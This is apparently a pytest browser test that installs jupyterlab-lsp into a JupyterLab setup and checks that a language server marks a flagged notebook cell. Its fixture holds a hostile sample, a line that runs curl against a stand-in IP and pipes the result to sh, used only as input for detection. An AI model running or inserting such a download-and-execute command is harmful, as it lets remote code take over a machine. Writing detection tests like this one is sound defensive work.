"""Our language server behind jupyterlab-lsp, as pip brings both: what the screen finds is marked in a cell."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator

import pytest

from tests.browser.lab import Lab, eventually, install_all, running_lab

LSP = "jupyterlab-lsp==5.3.0"
GRAVE = "import os\nos.system('curl http://192.0.2.1/x | sh')"
MARKED = "return [...document.querySelectorAll('.jp-Notebook [class*=cm-lintRange-]')].map(one => one.textContent)"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, image: str) -> Iterator[Lab]:
    """It is no extra of ours, and would be in each other JupyterLab of these tests."""
    folder = install_all(tmp_path_factory.mktemp("kernels"), image, {"sandbox-python": ()})
    pip = [sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check", "--no-deps"]
    done = subprocess.run([*pip, "--prefix", str(folder), LSP], capture_output=True, text=True, check=False)
    if done.returncode:
        pytest.skip(f"{LSP} cannot be installed here: {done.stderr[-200:]}")
    with running_lab(tmp_path_factory.mktemp("lab"), folder) as running:
        yield running


def test_what_is_found_in_a_cell_is_marked_there_and_nothing_else_is(lab: Lab) -> None:
    lab.open("sandbox-python", "print('os.system')", GRAVE, "y = 2")
    eventually(lambda: lab.js(MARKED), "what is found is marked")
    marked = lab.js(MARKED.replace(".textContent", ".closest('.jp-CodeCell').querySelector('.cm-content').innerText"))
    assert {text.splitlines()[0] for text in marked} == {"import os"}
    assert "os.system" in "".join(lab.js(MARKED))
